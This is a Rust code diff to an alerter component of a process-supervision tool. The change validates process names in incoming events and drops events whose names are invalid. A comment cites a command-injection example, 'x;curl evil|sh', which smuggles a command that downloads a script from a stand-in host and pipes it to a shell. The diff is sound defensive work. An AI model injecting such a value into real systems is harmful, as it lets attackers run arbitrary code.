@@ -21,6 +21,7 @@ use std::collections::{BTreeMap, HashSet};
 use std::path::PathBuf;
 use std::time::SystemTime;
 
+use respawn_common::ids::validate_process_name;
 use respawn_common::messages::{
     read_report, AgentState, Event, Heartbeat, ProcessReport, MAX_PROCESSES_READ,
 };
@@ -151,6 +152,12 @@ impl Alerter {
                 // The topic says whose it is (a broker ACL makes sure of that).
                 event.agent = agent;
                 if let Some(process) = &event.process {
+                    // Named in alerts and in the commands they suggest: a name no agent can
+                    // configure (`x;curl evil|sh`) comes from no agent's process.
+                    if validate_process_name(process).is_err() {
+                        tracing::debug!(%topic, "ignoring an event of a process with an invalid name");
+                        return;
+                    }
                     if !self.rules.has_room(&event.agent, process) {
                         return;
                     }
